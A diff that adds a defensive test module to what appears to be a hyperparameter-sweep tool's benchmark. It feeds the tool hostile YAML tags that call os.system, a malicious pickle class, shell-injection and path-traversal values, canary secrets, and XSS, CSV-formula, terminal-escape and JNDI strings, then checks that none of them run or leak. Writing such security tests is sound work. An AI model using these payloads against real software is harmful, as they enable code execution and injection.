@@ -1,0 +1,525 @@
+"""A2 to A5: hostile sweep files, pickles in a study's folder, secrets, and strings that are obeyed.
+
+Everything happens in a folder of its own whose contents are listed before and after. A canary is
+a file that a hostile thing would make, or a text that must be found nowhere.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import dataclasses
+import io
+import json
+import pickle
+import re
+import shutil
+from collections import Counter
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import yaml
+from markdown_it import MarkdownIt
+
+from benchmarks.chaos.checkpoints import bed
+from benchmarks.chaos.processes import run_to_the_end, start_driver
+from benchmarks.chaos.row import Bench, Outcome, Row
+from benchmarks.chaos.studies import (
+    command_line,
+    printed_json,
+    scripted_sweep,
+    trained_sweep,
+    write_sweep,
+)
+from orchestrator.events import TrialEnded
+from orchestrator.journal import JOURNAL, Journal, read_journal
+
+# A2 ------------------------------------------------------------------------------------------
+
+_TAGS = (
+    "!!python/object/apply:os.system ['touch {canary}']",
+    "!!python/object/new:os.system ['touch {canary}']",
+    "!!python/object/apply:subprocess.check_output [['touch', '{canary}']]",
+    "!!python/object/apply:pathlib.Path.touch ['{canary}']",
+    '!!python/object/apply:builtins.eval [\'__import__("os").system("touch {canary}")\']',
+    "!!python/name:os.system",
+    "!!python/module:os",
+    "!!python/object:builtins.object {{}}",
+    "!!python/tuple [a, b]",
+    "!include /etc/passwd",
+    "!include_dir /etc",
+    "!ENV ${{HOME}}",
+    "!env_var HOME",
+    "!!binary aGVsbG8=",
+)
+_TEXTS = (
+    "$(touch {canary})",
+    "`touch {canary}`",
+    "; touch {canary}",
+    "| touch {canary}",
+    "${{IFS}}touch${{IFS}}{canary}",
+    "{{{{ ''.__class__.__mro__ }}}}",
+    "%(touch {canary})s",
+    "\\u0000",
+    "file://{canary}",
+    "~root/{canary}",
+)
+_NAMES = (
+    "../outside", "../../outside", "/outside", "a/../../outside", "..", ".", "~/outside",
+    "a/b", "-rf", ".hidden", "a\\\\b", "x" * 65, "CON ", "a b", "\\u202e",
+)  # fmt: skip
+_KEYS = (
+    "__class__", "__init__", "task.__class__", "learning_rate.__init__", "output_dir",
+    "push_to_hub", "hub_token", "resume_from_checkpoint", "deepspeed", "report_to",
+    "logging_dir", "run_name",
+)  # fmt: skip
+_CODE = ("trust_remote_code", "own file", "own file by parameters")
+
+
+def _hostile() -> dict[str, Callable[[dict[str, Any], Path], str]]:
+    """Name -> what makes a sweep file's text of a sound one; the path is the canary's."""
+
+    def value(text: str) -> Callable[[dict[str, Any], Path], str]:
+        def make(data: dict[str, Any], canary: Path) -> str:
+            data["description"] = "@@"
+            return json.dumps(data).replace('"@@"', text.format(canary=canary))
+
+        return make
+
+    def at(place: str, text: str) -> Callable[[dict[str, Any], Path], str]:
+        def make(data: dict[str, Any], canary: Path) -> str:
+            inner = data
+            *way, last = place.split("/")
+            for key in way:
+                inner = inner[key]
+            inner[last] = text.format(canary=canary)
+            return json.dumps(data)
+
+        return make
+
+    def key(name: str) -> Callable[[dict[str, Any], Path], str]:
+        def make(data: dict[str, Any], canary: Path) -> str:
+            data["training_arguments"][name] = str(canary)
+            return json.dumps(data)
+
+        return make
+
+    cases = {f"tag {n}": value(text) for n, text in enumerate(_TAGS)}
+    for n, text in enumerate(_TEXTS):
+        place = ("task/model", "task/dataset/path", "description")[n % 3]
+        cases[f"text {n}"] = at(place, text)
+    cases |= {f"name {n}": at("name", text) for n, text in enumerate(_NAMES)}
+    cases |= {f"key {n}": key(name) for n, name in enumerate(_KEYS)}
+    cases["study a link"] = at("description", "its folder is a link")
+    cases["storage up"] = at("storage", "../up")
+    cases["model a path up"] = at("task/model", "../../../../../../etc")
+    cases["data a path up"] = at("task/dataset/path", "/etc/passwd")
+    for name in _CODE:
+        cases[name] = _code(name)
+    cases["alias bomb"] = lambda data, canary: _BOMB + json.dumps(data)
+    cases["merge keys"] = lambda data, canary: "a: &a {b: 1}\n<<: *a\n" + json.dumps(data)
+    return cases
+
+
+_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
+    f"{name}: &{name} [{', '.join(['*' + before] * 9)}]\n"
+    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
+)
+
+
+def _code(name: str) -> Callable[[dict[str, Any], Path], str]:
+    def make(data: dict[str, Any], canary: Path) -> str:
+        own = canary.with_name("evil.py")
+        own.write_text(f"open({str(canary)!r}, 'w')\ndef build(spec, cache, seed): ...\n")
+        if name == "trust_remote_code":
+            data["task"]["trust_remote_code"] = True
+        elif name == "own file":
+            data["task"]["type"] = f"{own}:build"
+        else:
+            data["parameters"]["task.type"] = {"values": [f"{own}:build", "text-classification"]}
+        return json.dumps(data)
+
+    return make
+
+
+HOSTILE = _hostile()
+
+
+def run_file(case: str, folder: Path, bench: Bench) -> Outcome:
+    """Validate it, plan it; if it is taken for right, run it too."""
+    home = folder / "home"
+    home.mkdir()
+    outside = folder / "outside-there"
+    outside.mkdir()
+    canary = folder / "canary"
+    data = scripted_sweep("random", slots=1, seed=1, trials=1, boundaries=1, name="study")
+    text = HOSTILE[case](data, canary)
+    if case == "study a link":
+        (home / "studies").mkdir()
+        (home / "studies" / "study").symlink_to(outside)
+    file = home / "hostile.yaml"
+    file.write_text(text, "utf-8")
+    before = _listing(folder)
+    said = []
+    with contextlib.chdir(home):
+        codes = {word: command_line(word, str(file)) for word in ("validate", "plan")}
+    for word, (code, output) in codes.items():
+        if code not in (0, 2):
+            said.append(f"`sweep {word}` exited with {code}: {output[-200:]}")
+        if "Traceback" in output:
+            said.append(f"a traceback: {output[-200:]}")
+    if codes["validate"][0] == 0:
+        words = ["run", str(file), "--storage", str(home / "studies"), "--plain"]
+        driver = start_driver(words, address=bench.address, seconds=0.01)
+        code, output = run_to_the_end(driver, seconds=120)
+        if "Traceback" in output:
+            said.append(f"a traceback: {output[-200:]}")
+    if canary.exists():
+        said.append("the canary was made")
+    new = {path for path in _listing(folder) - before if not path.startswith("home/studies/")}
+    if new - {"home/studies"}:
+        said.append(f"written outside the study's folder: {sorted(new)[:5]}")
+    return Outcome(said)
+
+
+def _listing(folder: Path) -> set[str]:
+    return {
+        path.relative_to(folder).as_posix()
+        for path in folder.rglob("*")
+        if "__pycache__" not in path.parts
+    }
+
+
+# A3 ------------------------------------------------------------------------------------------
+
+
+class _Evil:
+    """Makes the canary when it is unpickled."""
+
+    def __init__(self, canary: Path) -> None:
+        self._canary = canary
+
+    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str, str]]:
+        return open, (str(self._canary), "w")
+
+
+def pickles(canary: Path) -> dict[str, bytes]:
+    """A malicious pickle bare, and in the archive that torch writes."""
+    import torch
+
+    archive = io.BytesIO()
+    torch.save(_Evil(canary), archive)
+    return {"bare": pickle.dumps(_Evil(canary)), "archive": archive.getvalue()}
+
+
+def run_pickle(case: str, folder: Path, bench: Bench) -> Outcome:
+    """Put one pickle into every file of a study in turn; show, list, best, export, resume."""
+    canary = folder / "canary"
+    evil = pickles(canary)[case.split()[0]]
+    said = []
+    count = 0
+    whole = bed()
+    for path in sorted(p for p in whole.rglob("*") if p.is_file()):
+        place = folder / "study"
+        shutil.copytree(whole, place, symlinks=True)
+        name = path.relative_to(whole)
+        (place / name).write_bytes(evil)
+        count += 1
+        for words in _commands(place, folder / "out"):
+            code, output = command_line(*words)
+            if "Traceback" in output:
+                said.append(f"{name}: `sweep {words[0]}`: a traceback ({code})")
+        if name.name == "model.safetensors" or path.suffix in (".pt", ".pth", ".bin"):
+            said += _begun(place, name)
+        if canary.exists():
+            said.append(f"{name}: the canary was made")
+            canary.unlink()
+        shutil.rmtree(place)
+        shutil.rmtree(folder / "out", ignore_errors=True)
+    return Outcome(said, count=count)
+
+
+def _commands(place: Path, out: Path) -> list[list[str]]:
+    return [
+        ["show", str(place)],
+        ["show", str(place), "--json"],
+        ["list", "--storage", str(place.parent)],
+        ["best", str(place)],
+        ["best", str(place), "--export", str(out)],
+    ]
+
+
+def _begun(place: Path, name: Path) -> list[str]:
+    """What a resume would do, were the damage not noticed: begin from that checkpoint."""
+    from orchestrator.errors import TrialError
+    from orchestrator.segment import Segment
+    from orchestrator.study import prepare_data
+    from orchestrator.trial import Rank
+    from search_spaces import SweepSpec
+
+    spec = SweepSpec.model_validate(trained_sweep("random", slots=1, seed=3, name="study"))
+    cache = place.parent / ".cache"
+    prepare_data(spec, cache, lambda text: None)
+    rank = Rank(spec, place, cache)
+    checkpoint = "/".join(name.parts[:4])
+    boundary = 1 if "boundary-00001" in checkpoint else 2
+    config = {"learning_rate": 1e-3}
+    try:
+        rank.begin(
+            Segment(
+                trial="0000", segment=1, config=config, boundaries=3, start=boundary,
+                checkpoint=checkpoint,
+            )
+        )  # fmt: skip
+        rank.advance()  # the generators are read in the first step
+    except TrialError:
+        return []
+    finally:
+        rank.close()
+    return [f"{name}: training began from it"]
+
+
+# A4 ------------------------------------------------------------------------------------------
+
+CANARY = "canary7d41f0aa9c"
+_ENVIRONMENT = {
+    "WANDB_API_KEY": CANARY + "a" * 24,
+    "HF_TOKEN": "hf_" + CANARY + "b" * 20,
+    "AWS_SECRET_ACCESS_KEY": CANARY + "/c" * 10,
+    "MY_DB_PASSWORD": CANARY + "-d",
+    "HTTPS_PROXY": f"http://user:{CANARY}-e@127.0.0.1:9",
+}
+_LEAKING = '''
+import os, logging, warnings
+from orchestrator.tasks.text_classification import TextClassification
+
+
+class Leaking(TextClassification):
+    """Text classification that says what it should not."""
+
+    def build_model(self, seed):
+        said = " ".join(v for k, v in os.environ.items() if "canary" in v)
+        print("printed", said)
+        logging.getLogger("mine").warning("logged %s", said)
+        warnings.warn("warned " + said)
+        if self.raises:
+            raise RuntimeError("no https://me:{canary}-f@host/x?token={canary}-g: " + said)
+        return super().build_model(seed)
+
+
+def build(spec, cache, seed):
+    task = Leaking(spec.model_copy(update={{"type": "text-classification"}}), cache, seed)
+    task.raises = spec.model_config_overrides.get("hidden_dropout_prob") == 0.5
+    return task
+'''
+
+
+def run_secrets(case: str, folder: Path, bench: Bench) -> Outcome:
+    """Run a study whose task says every secret it knows; look for them in all that was written."""
+    task = folder / "leaking.py"
+    task.write_text(_LEAKING.format(canary=CANARY))
+    home = folder / "home"
+    home.mkdir()
+    (home / ".env").write_text(f"SECRET={CANARY}-env\n")
+    sweep = trained_sweep("grid", slots=2, seed=1, name="study")
+    sweep["task"]["type"] = f"{task}:build"
+    sweep["parameters"] = {
+        "learning_rate": {"values": [1e-3]},
+        "task.model_config.hidden_dropout_prob": {"values": [0.0, 0.5]},
+    }
+    if case == "tracked":
+        sweep["tracking"] = {"backends": ["wandb", "tensorboard"], "mode": "offline"}
+    file = write_sweep(home / "study.yaml", sweep)
+    storage = folder / "studies"
+    words = ["run", str(file), "--storage", str(storage), "--plain", "--allow-code"]
+    code, output = run_to_the_end(
+        start_driver(words, address=bench.address, trains=True, environment=_ENVIRONMENT)
+    )
+    said = [] if code == 3 else [f"exit {code}: {output[-300:]}"]
+    said += [f"on the terminal: {line}" for line in _leaks(output.encode())]
+    read = 0
+    for path in storage.rglob("*"):
+        if path.is_file() and not path.is_symlink():
+            read += 1
+            name = path.relative_to(storage)
+            said += [f"in {name}: {line}" for line in _leaks(path.read_bytes())]
+    for words in (["show", str(storage / "study")], ["show", str(storage / "study"), "--json"]):
+        said += [f"`sweep {words[0]}`: {line}" for line in _leaks(command_line(*words)[1].encode())]
+    out = folder / "out"
+    command_line("best", str(storage / "study"), "--export", str(out))
+    for path in out.rglob("*"):
+        if path.is_file():
+            said += [f"exported {path.name}: {line}" for line in _leaks(path.read_bytes())]
+    return Outcome(said[:10], count=read)
+
+
+def _leaks(raw: bytes) -> Iterator[str]:
+    for match in re.finditer(re.escape(CANARY.encode()), raw):
+        start = max(0, match.start() - 40)
+        yield repr(raw[start : match.end() + 10])
+        return
+
+
+def run_secret_in_file(case: str, folder: Path, bench: Bench) -> Outcome:
+    """A sweep file that holds a secret is refused, and the refusal does not repeat it."""
+    data = scripted_sweep("random", slots=1, seed=1, trials=1, boundaries=1, name="study")
+    secret = "hf_" + CANARY + "B" * 20
+    match case:
+        case "file: argument":
+            data["training_arguments"]["hub_token"] = secret
+        case "file: url":
+            data["task"]["dataset"]["path"] = f"https://me:{CANARY}@host/data.csv"
+        case _:
+            data["description"] = f"use {secret}"
+    file = write_sweep(folder / "study.yaml", data)
+    code, output = command_line("validate", str(file))
+    said = [f"the refusal says it: {line}" for line in _leaks(output.encode())]
+    if code != 2:
+        said.append(f"exit {code}: a secret may stand in a sweep file")
+    return Outcome(said)
+
+
+# A5 ------------------------------------------------------------------------------------------
+
+STRINGS = (
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</title><svg onload=1>",
+    "\"><b>x</b>", "'><i>", "&lt;b&gt;", "[link](javascript:alert(1))", "![x](http://h/x.png)",
+    "`code`", "```\n# heading\n```", "| a | b |", "---\nlicense: evil\n---", "# heading",
+    "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "=HYPERLINK(\"http://h\")",
+    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J", "\x9b31m", "\x08\x08\x08", "a\x00b",
+    "line\nbreak", "line\r\nbreak", "\u202egnp.exe", "\u2028", "\ud800", "\ufeff", "[bold]x[/bold]",
+    "[red]", "[/]", "{0}", "%s%n", "${jndi:ldap://h}", "a" * 5000, "\U0001f600",
+)  # fmt: skip
+_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+def run_string(case: str, folder: Path, bench: Bench) -> Outcome:
+    """One string as an error's message, a log, a configuration's value and a description."""
+    hostile = STRINGS[int(case.split()[1])]
+    study = folder / "study"
+    shutil.copytree(bed(), study, symlinks=True)
+    past = read_journal(study / JOURNAL)
+    spec = json.loads((study / "spec.json").read_text())
+    spec["description"] = hostile
+    (study / "spec.json").write_text(json.dumps(spec))
+    number = 0.123456789012345
+    history = [entry.event for entry in past.entries]
+    (study / JOURNAL).unlink()
+    (study / "journal.length").unlink(missing_ok=True)
+    journal = Journal(study / JOURNAL)
+    proposal = dataclasses.replace(history[1], config={"learning_rate": number, "x": hostile})  # type: ignore[call-arg]
+    other = dataclasses.replace(proposal, trial="0001", number=1)  # type: ignore[call-arg]
+    failed = TrialEnded(trial="0001", state="failed", failure="code", message=hostile, log=hostile)
+    journal.append([history[0], proposal, *history[2:], other, failed])
+    journal.close()
+    said = [*_terminal(study), *_json(study, hostile, number), *_card(study, folder, hostile)]
+    return Outcome(said, count=4)
+
+
+def _terminal(study: Path) -> list[str]:
+    code, output = command_line("show", str(study), "--all")
+    said = [] if code == 0 else [f"`sweep show` exited with {code}: {output[-200:]}"]
+    control = _CONTROL.search(output)
+    if control:
+        said.append(f"a control character reached the terminal: {control.group()!r}")
+    return said
+
+
+def _json(study: Path, hostile: str, number: float) -> list[str]:
+    try:
+        data = printed_json("show", str(study))
+    except ValueError as error:
+        return [f"`sweep show --json` printed no JSON: {error}"]
+    config = data["trials"][0]["config"]
+    said = []
+    if config["learning_rate"] != number:
+        said.append(f"{number} became {config['learning_rate']}")
+    if config["x"] != hostile:
+        said.append(f"{hostile!r} became {config['x']!r}")
+    return said
+
+
+def _card(study: Path, folder: Path, hostile: str) -> list[str]:
+    """The model card has no element, link or metadata that the string made."""
+    code, output = command_line("best", str(study), "--export", str(folder / "out"))
+    if code != 0:
+        return [f"`sweep best --export` exited with {code}: {output[-200:]}"]
+    card = (folder / "out" / "README.md").read_text("utf-8", "surrogatepass")
+    said = ["a control character stands in it"] if _CONTROL.search(card) else []
+    *_, metadata, text = card.split("---\n", 2)
+    known = yaml.safe_load(metadata)
+    if known.get("license") == "evil":
+        said.append("its metadata was changed")
+    found = _elements(text)
+    if found != _OURS:
+        said.append(f"it holds {found} instead of {_OURS}")
+    return [f"the model card: {text}" for text in said]
+
+
+_OURS = {"heading_open": 6, "table_open": 3, "fence": 1}
+"""Elements of the card of this study, whatever stands in its texts."""
+
+
+def _elements(text: str) -> dict[str, int]:
+    """How many elements of each kind Markdown makes of it; raw HTML, links and images too."""
+    counts: Counter[str] = Counter()
+    for token in MarkdownIt("commonmark").enable("table").parse(text):
+        counts.update(inner.type for inner in (token, *(token.children or ())))
+    kinds = ("heading_open", "table_open", "fence", "html_block", "html_inline", "link_open",
+             "image", "hr", "code_inline", "blockquote_open")  # fmt: skip
+    return {kind: counts[kind] for kind in kinds if counts[kind]}
+
+
+A2 = Row(
+    id="A2",
+    injected="hostile sweep files (python tags, includes, environment expansion, path traversal,"
+    " symlinked folders)",
+    holds="canary never made, nothing outside the study's folder",
+    target="60 of 60",
+    cases=tuple(HOSTILE),
+    few=("tag 0", "name 0", "own file", "trust_remote_code", "alias bomb"),
+    run=run_file,
+    counted="files",
+    remark="`sweep validate` and `sweep plan`; files that are taken for right are run too.",
+)
+A3 = Row(
+    id="A3",
+    injected="a malicious pickle in every file of a study folder, then show, list, best, export,"
+    " and training from it",
+    holds="canary never made",
+    target="all",
+    cases=("bare pickle", "archive pickle"),
+    few=("bare pickle",),
+    run=run_pickle,
+    counted="files",
+    remark="report and compare are not there yet.",
+)
+A4 = Row(
+    id="A4",
+    injected="canary secrets in environment, `.env`, URLs, exception texts",
+    holds="found nowhere in what we write or upload",
+    target="0 hits",
+    cases=("run", "tracked", "file: argument", "file: url", "file: text"),
+    few=("file: argument", "file: url", "file: text"),
+    run=lambda case, folder, bench: (
+        run_secret_in_file(case, folder, bench)
+        if case.startswith("file")
+        else run_secrets(case, folder, bench)
+    ),
+    counted="files searched",
+    remark="a real study whose task prints, logs, warns and raises every secret it knows; searched"
+    " are its whole folder (W&B offline and TensorBoard files included), the terminal, `sweep show`"
+    " and an exported model.",
+)
+A5 = Row(
+    id="A5",
+    injected="hostile strings as names, metrics, errors",
+    holds="terminal, JSON and model card: no new elements or control characters, numbers unchanged",
+    target="40 strings x 4 places",
+    cases=tuple(f"string {n}" for n in range(len(STRINGS))),
+    few=("string 0", "string 7", "string 11", "string 20", "string 30"),
+    run=run_string,
+    counted="strings in places",
+    remark="for what there is: terminal, JSON and model card. HTML reports and CSV are not there"
+    " yet.",
+)
